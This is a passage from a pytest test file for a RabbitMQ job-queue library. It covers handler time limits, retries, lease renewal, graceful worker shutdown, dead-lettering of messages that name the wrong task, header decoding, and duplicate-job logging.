            await asyncio.to_thread(wait_until, renewed_twice, within=30, what="two renewals")
            # Two renewals later the first lease has long run out: a worker taking the
            # job over now would find it held.
            taken = store.claim(job, "another worker", lease=3)
            assert taken.outcome is ClaimOutcome.BUSY, taken
        finally:
            release.set()
        return await running

    assert asyncio.run(scenario()) == Counter({"succeeded": 1})
    record = store.get(job.idempotency_key)
    assert record is not None
    assert record.status is Status.SUCCEEDED
    assert record.attempts == 1


def test_a_sync_handler_over_its_time_limit_fails_and_is_retried(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    """The limit counts from the handler's start; the overrun run is failed at the
    limit (its thread finishes in the background) and retried through the broker."""
    app = make_app()
    runs: list[float] = []
    policy = RetryPolicy(max_attempts=2, base_delay=0.2, max_delay=0.2, jitter=False)

    @app.task("slow.once", time_limit=0.5, retry=policy)
    def slow_once(payload: Add) -> None:
        runs.append(time.monotonic())
        if len(runs) == 1:
            time.sleep(2)  # over the limit the first time only

    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("slow.once", {"key": "k"})
    store = MemoryStore()
    outcomes = run_burst_worker(broker, app, store)
    assert outcomes == Counter({"retried": 1, "succeeded": 1})
    record = store.get(job.idempotency_key)
    assert record is not None
    assert record.status is Status.SUCCEEDED
    assert record.attempts == 2
    assert record.last_error is not None
    assert "TimeLimitExceeded" in record.last_error


def test_async_handlers_run_on_the_event_loop_at_most_concurrency_at_once(
    broker: Broker, make_app: Callable[[], App], effects: Effects
) -> None:
    app = make_app()
    quick = RetryPolicy(max_attempts=2, base_delay=0.2, max_delay=0.2, jitter=False)
    threads: set[str] = set()
    running = [0, 0]  # now, most at once

    @app.task("counter.add_async", retry=quick)
    async def add(payload: Add) -> None:
        threads.add(threading.current_thread().name)
        running[0] += 1
        running[1] = max(running)
        try:
            await asyncio.sleep(0.05)
        finally:
            running[0] -= 1
        if effects.record(payload.key) <= payload.fail_times:
            raise ConnectionError("flaky")

    with Publisher(broker.url, app) as publisher:
        publisher.publish_many(
            [JobRequest("counter.add_async", {"key": f"k{n}"}) for n in range(19)]
            + [JobRequest("counter.add_async", {"key": "flaky", "fail_times": 1})]
        )
    outcomes = run_burst_worker(broker, app, MemoryStore())  # concurrency 4

    assert outcomes == Counter({"succeeded": 20, "retried": 1})
    assert effects.runs == Counter({**{f"k{n}": 1 for n in range(19)}, "flaky": 2})
    assert threads == {threading.main_thread().name}  # asyncio.run's loop, no pool thread
    assert 2 <= running[1] <= 4


def test_an_async_handler_over_its_time_limit_is_cancelled_and_retried(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    app = make_app()
    cancelled: list[str] = []
    runs: list[float] = []
    policy = RetryPolicy(max_attempts=2, base_delay=0.2, max_delay=0.2, jitter=False)

    @app.task("slow.async", time_limit=0.5, retry=policy)
    async def slow(payload: Add) -> None:
        runs.append(time.monotonic())
        if len(runs) == 1:
            try:
                await asyncio.sleep(5)  # over the limit the first time only
            except asyncio.CancelledError:
                cancelled.append(payload.key)
                raise

    with Publisher(broker.url, app) as publisher:
        job = publisher.publish("slow.async", {"key": "k"})
    store = MemoryStore()
    outcomes = run_burst_worker(broker, app, store)

    assert outcomes == Counter({"retried": 1, "succeeded": 1})
    assert cancelled == ["k"]  # an async handler is cancelled at its limit, not left running
    record = store.get(job.idempotency_key)
    assert record is not None
    assert (record.status, record.attempts) == (Status.SUCCEEDED, 2)
    assert "TimeLimitExceeded" in (record.last_error or "")


def test_a_stopped_worker_finishes_running_async_jobs_and_leaves_the_rest_queued(
    broker: Broker, make_app: Callable[[], App], connection: pika.BlockingConnection
) -> None:
    """Async handlers: the two running (concurrency 2) finish; the four claimed and
    waiting for a slot give their claims back and return to the queue."""
    app = make_app()
    started: list[str] = []
    two_running, release = asyncio.Event(), asyncio.Event()

    @app.task("slow.async")
    async def slow(payload: Add) -> None:
        started.append(payload.key)
        if len(started) == 2:
            two_running.set()
        await asyncio.wait_for(release.wait(), 30)

    outcomes, store = _stop_with_two_running(
        broker, app, "slow.async", lambda: asyncio.wait_for(two_running.wait(), 30), release.set
    )
    assert len(started) == 2
    assert (outcomes["succeeded"], outcomes["left"]) == (2, 4)
    assert store.counts().get(Status.SUCCEEDED) == 2
    assert store.counts().get(Status.RUNNING) == 4  # given back: holder-less, claimable
    remaining = drain_at_least(connection, app.names.task_queue("slow.async"), 4)
    assert sorted(job.payload["key"] for job in remaining) == sorted(
        f"k{n}" for n in range(6) if f"k{n}" not in started
    )
    assert all(record.worker is None for record in store.find(status=Status.RUNNING))


def test_a_handlers_own_timeout_error_is_its_failure_not_the_time_limit(
    broker: Broker, make_app: Callable[[], App], connection: pika.BlockingConnection
) -> None:
    """A handler may raise TimeoutError itself (an upstream call timed out): with a
    time limit set, it is still the handler's failure, on the fast path (due now) and
    on the per-delivery path (a job held until due), sync and async."""
    app = make_app()
    once = RetryPolicy(max_attempts=1)

    @app.task("upstream.sync", time_limit=30, retry=once)
    def call_sync(payload: Add) -> None:
        raise TimeoutError(f"upstream {payload.key}")

    @app.task("upstream.async", time_limit=30, retry=once)
    async def call_async(payload: Add) -> None:
        raise TimeoutError(f"upstream {payload.key}")

    declare(connection, app.topology())
    channel = connection.channel()
    channel.confirm_delivery()
    keys = []
    for task in ("upstream.sync", "upstream.async"):
        for key, early in (("now", 0.0), ("held", 0.8)):  # held: due within the hold
            due = datetime.now(UTC) + timedelta(seconds=early)
            keys.append(f"{task}-{key}")
            channel.basic_publish(
                app.names.work_exchange,
                task,
                b'{"key": "%s"}' % key.encode(),
                pika.BasicProperties(
                    content_type="application/json",
                    delivery_mode=2,
                    message_id=keys[-1],
                    type=task,
                    headers={"bj-due-at": due.isoformat(), "bj-attempt": 1},
                ),
                mandatory=True,
            )
    store = MemoryStore()
    outcomes = run_burst_worker(broker, app, store)

    assert outcomes == Counter({"dead:exhausted": 4})
    for key in keys:
        record = store.get(key)
        assert record is not None
        assert record.status is Status.DEAD
        assert "TimeoutError: upstream" in (record.last_error or ""), record.last_error
        assert "TimeLimitExceeded" not in (record.last_error or "")


def publish_by_hand(
    connection: pika.BlockingConnection,
    app: App,
    queue_task: str,
    *,
    type_: str,
    headers: dict[str, object],
    body: bytes = b'{"key": "by-hand"}',
    delivery_mode: int = 2,
    content_type: str = "application/json",
    timestamp: int | None = None,
) -> str:
    """Publish to ``queue_task``'s routing key as a foreign service would (pika)."""
    message_id = str(uuid.uuid4())
    channel = connection.channel()
    channel.confirm_delivery()
    channel.basic_publish(
        app.names.work_exchange,
        queue_task,
        body,
        pika.BasicProperties(
            content_type=content_type,
            delivery_mode=delivery_mode,
            message_id=message_id,
            type=type_,
            headers=headers,
            timestamp=timestamp,
        ),
        mandatory=True,
    )
    return message_id


@pytest.mark.also_on_rabbitmq_4
def test_a_message_naming_another_task_is_dead_lettered_never_run(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """Permission to publish to one task's queue gives no way to run another task."""
    declare(connection, app.topology())
    store = MemoryStore()
    publish_by_hand(
        connection, app, "counter.add", type_="counter.reject", headers={"bj-idempotency-key": "K"}
    )
    outcomes = run_burst_worker(broker, app, store, tasks=("counter.add",))
    assert outcomes["dead:wrong-queue"] == 1
    assert not effects.runs, "the other task's handler ran"
    (letter,) = dead_letters(connection, app, "counter.add")
    assert letter[HEADER_REASON] == "wrong-queue"
    assert "counter.reject" in str(letter[HEADER_ERROR])
    assert store.get("K") is None, "a foreign queue's message must not settle the key"


def test_string_headers_sent_as_byte_arrays_are_read_as_utf8(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """pika sends bytes as AMQP byte arrays ('x'); aiormq hands them over as bytearray."""
    declare(connection, app.topology())
    store = MemoryStore()
    publish_by_hand(
        connection,
        app,
        "counter.add",
        type_="counter.add",
        headers={
            "bj-idempotency-key": b"invoice-42",
            "bj-created-at": b"2026-11-29T10:00:00.000000Z",
            "traceparent": b"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            "bj-attempt": 1,
        },
    )
    outcomes = run_burst_worker(broker, app, store)
    assert outcomes["succeeded"] == 1
    assert effects.runs == Counter({"by-hand": 1})
    assert store.get("invoice-42").status is Status.SUCCEEDED  # type: ignore[union-attr]


def test_a_transient_job_with_a_charset_in_its_content_type_runs(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """The page: delivery_mode 1 is not refused; application/json; charset=utf-8 is
    many clients' default and accepted."""
    declare(connection, app.topology())
    publish_by_hand(
        connection,
        app,
        "counter.add",
        type_="counter.add",
        headers={},
        delivery_mode=1,
        content_type="application/json; charset=utf-8",
    )
    assert run_burst_worker(broker, app, MemoryStore())["succeeded"] == 1
    assert effects.runs == Counter({"by-hand": 1})


@pytest.mark.also_on_rabbitmq_4
def test_retries_keep_the_body_the_creation_time_and_the_publishers_own_headers(
    broker: Broker, app: App, effects: Effects, connection: pika.BlockingConnection
) -> None:
    """The page: unknown headers are kept. Each retry replaces the message it came
    from, so the last attempt's dead letter still has the first message's body
    bytes, creation time and the publisher's own headers."""
    declare(connection, app.topology())
    body = b'{ "key": "kept", "fail_times": 99 }'
    message_id = publish_by_hand(
        connection,
        app,
        "counter.add",
        type_="counter.add",
        body=body,
        timestamp=1_795_946_400,
        headers={
            "bj-idempotency-key": "kept-key",
            "bj-created-at": "2026-11-29T12:00:00.5+02:00",
            "my-header": "mine",
        },
    )
    outcomes = run_burst_worker(broker, app, MemoryStore())
    assert (outcomes["retried"], outcomes["dead:exhausted"]) == (2, 1)
    assert effects.runs["kept"] == 3
    ((properties, dead_body),) = dead_messages(connection, app, "counter.add")
    assert dead_body == body
    assert (properties.message_id, properties.timestamp) == (message_id, 1_795_946_400)
    headers = properties.headers or {}
    assert (headers[HEADER_REASON], headers[HEADER_ATTEMPTS]) == ("exhausted", 3)
    assert headers["bj-attempt"] == 3
    assert headers["my-header"] == "mine"
    assert headers["bj-idempotency-key"] == "kept-key"
    assert headers["bj-created-at"] == "2026-11-29T10:00:00.500000Z"


def test_a_skipped_duplicate_is_logged_with_its_id_and_key(
    broker: Broker, app: App, effects: Effects, caplog: pytest.LogCaptureFixture
) -> None:
    store = MemoryStore()
    with Publisher(broker.url, app) as publisher:
        first = publisher.publish("counter.add", {"key": "once"}, idempotency_key="invoice-7")
        second = publisher.publish("counter.add", {"key": "once"}, idempotency_key="invoice-7")
    with caplog.at_level(logging.INFO, logger="broker_jobs.worker"):
        outcomes = run_burst_worker(broker, app, store)
    assert outcomes["duplicate"] == 1
    (line,) = [r.getMessage() for r in caplog.records if "not run: the ledger" in r.getMessage()]
    assert second.id in line
    assert "invoice-7" in line
    assert f"succeeded (job {first.id}" in line


def test_a_worker_without_its_queue_gives_worker_advice_not_a_publishers(
    broker: Broker, make_app: Callable[[], App]
) -> None:
    app = make_app()

    @app.task("never.declared")
    def never(payload: Add) -> None:
        del payload

    worker = Worker(broker.url, app, MemoryStore(), WorkerSettings(declare=False, burst=True))
    with pytest.raises(TopologyMissingError) as caught:
        asyncio.run(worker.run())
    message = str(caught.value)
    assert "broker-jobs topology apply" in message
    assert "--no-declare" in message
    assert "publish" not in message
